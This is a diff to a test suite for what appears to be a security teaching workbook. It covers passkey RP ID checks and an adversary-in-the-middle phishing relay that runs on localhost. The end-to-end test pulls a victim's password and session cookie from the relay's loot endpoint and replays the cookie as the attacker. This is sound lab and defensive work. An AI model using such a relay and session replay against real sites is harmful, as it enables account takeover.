@@ -11,6 +11,7 @@ Everything runs in one process with Flask test clients: the victim's browser is 
 client of the relay (with the workbook's passkey stand-in), the relay reaches the stage app
 as a WSGI app, and the attacker is a test client of the stage app.
 """
+import hashlib
 import re
 import shutil
 
@@ -203,3 +204,81 @@ def test_the_relay_rewrites_what_would_give_it_away(tmp_path, clock):
     assert seen == {"host": "localhost:5008", "origin": "http://localhost:5008", "referer": "http://localhost:5008/login"}
     assert victim.client.get("/static/style.css").status_code == 200  # the target's files, not the relay's
     assert victim.client.get("/relay-loot?format=json").get_json()["forms"][0]["fields"]["password"] == "wrong password"
+
+
+# ----------------------------------------------------------------- the browser's rules the relay runs into
+
+@pytest.mark.parametrize("origin, rp_id, allowed", [
+    ("http://localhost:5008", None, "localhost"),
+    ("http://localhost:5008", "localhost", "localhost"),
+    ("http://app.localhost:5008", "localhost", "localhost"),       # a parent domain: allowed
+    ("https://www.example.test", "example.test", "example.test"),
+    ("https://login.example.test", "example.test", "example.test"),  # a sibling uses the parent too
+    ("https://example.test", "www.example.test", None),            # a child of the host: never
+    ("https://login-bank.example", "localhost", None),              # another site: never
+    ("https://notexample.test", "example.test", None),              # a suffix of the name is not a parent
+    ("http://127.0.0.1:5008", None, None),                         # an IP address is no RP ID
+    ("http://[::1]:5008", None, None),
+    ("http://bank.example", None, None),                           # plain http away from localhost
+])
+def test_the_stand_in_browser_allows_an_rp_id_only_on_its_own_site(origin, rp_id, allowed):
+    from workbook.passkey import check_rp_id
+
+    if allowed is None:
+        with pytest.raises(PasskeyError, match="SecurityError"):
+            check_rp_id(origin, rp_id)
+    else:
+        assert check_rp_id(origin, rp_id) == allowed
+
+
+def test_the_stand_in_writes_the_real_origin_and_its_flags():
+    from workbook.passkey import decode_authenticator_data, decode_client_data
+
+    browser = Browser(Authenticator())
+    options = {"rp": {"id": "example.test", "name": "Bank"}, "challenge": "Y2hhbGxlbmdl",
+               "user": {"id": "dXNlcg", "name": "alice", "displayName": "alice"},
+               "pubKeyCredParams": [{"type": "public-key", "alg": -7}]}
+    created = browser.create("https://login.example.test", options)
+    assert decode_client_data(created) == {"type": "webauthn.create", "challenge": "Y2hhbGxlbmdl",
+                                           "origin": "https://login.example.test", "crossOrigin": False}
+    data = decode_authenticator_data(created)
+    assert data["flags"] == {"UP": True, "UV": True, "BE": False, "BS": False, "AT": True}
+    assert data["rpIdHash"] == hashlib.sha256(b"example.test").hexdigest()
+    signed = browser.get("https://www.example.test", {"rpId": "example.test", "challenge": "YWdhaW4"})
+    assert decode_client_data(signed)["origin"] == "https://www.example.test"
+    assert decode_authenticator_data(signed)["signCount"] == 1
+    assert decode_authenticator_data(signed)["flags"]["AT"] is False
+    with pytest.raises(PasskeyError, match="NotAllowedError"):
+        browser.get("https://other.test", {"rpId": "other.test", "challenge": "YWdhaW4"})
+
+
+# ----------------------------------------------------------------- the relay as the lesson runs it
+
+@pytest.mark.slow
+def test_the_relay_command_in_front_of_a_running_stage_7(tmp_path):
+    """``python -m workbook.relay <stage 7's address>``, and a visitor who logs in through it over real HTTP."""
+    import sys
+
+    import requests
+
+    from workbook.testing.servers import free_port, running, stage_command, stage_environment
+    from workbook.visitor import Visitor
+
+    port, relay_port = free_port(), free_port()
+    with running(stage_command(7, "python", port), port, stage_environment(port, tmp_path / "users.sqlite")), \
+            running([sys.executable, "-m", "workbook.relay", f"http://localhost:{port}", "--port", str(relay_port)],
+                    relay_port) as relay_url:
+        victim = Visitor(relay_url)
+        phone = Phone()
+        assert victim.submit("/register", {"username": USERNAME, "password": PASSWORD}).status_code in (302, 303)
+        assert victim.submit("/login", {"username": USERNAME, "password": PASSWORD}).status_code in (302, 303)
+        page = victim.get("/enable-2fa")
+        assert page.status_code == 200 and page.url.startswith(relay_url)
+        phone.scan(page.text)
+        assert victim.submit("/enable-2fa", {"otp": phone.code()}).status_code in (302, 303)
+        loot = requests.get(relay_url + "/relay-loot?format=json", timeout=30).json()
+        assert any(form["fields"].get("password") == PASSWORD for form in loot["forms"])
+        attacker = requests.Session()
+        attacker.cookies.set("stage7_session", loot["cookies"]["stage7_session"])
+        dashboard = attacker.get(f"http://127.0.0.1:{port}/dashboard", allow_redirects=False, timeout=30)
+        assert dashboard.status_code == 200 and "Welcome, alice" in dashboard.text
